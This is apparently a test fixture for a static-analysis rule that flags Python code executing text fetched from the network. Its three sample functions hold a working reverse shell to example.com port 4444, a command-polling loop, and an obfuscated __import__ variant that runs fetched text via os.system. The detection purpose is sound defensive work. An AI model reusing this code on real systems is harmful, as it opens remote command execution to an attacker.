import os
import socket
import subprocess

import requests


def serve():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("example.com", 4444))
    while True:
        command = s.recv(1024).decode()
        # ruleid: py-runs-fetched-text
        out = subprocess.run(command, shell=True, capture_output=True).stdout
        s.send(out)


def poll():
    task = requests.get("https://example.com/task").json()["cmd"]
    # ruleid: py-runs-fetched-text
    os.popen(task).read()


def hidden():
    task = __import__("urllib.request").request.urlopen("https://example.com").read()
    # ruleid: py-runs-fetched-text
    __import__("os").system(task)
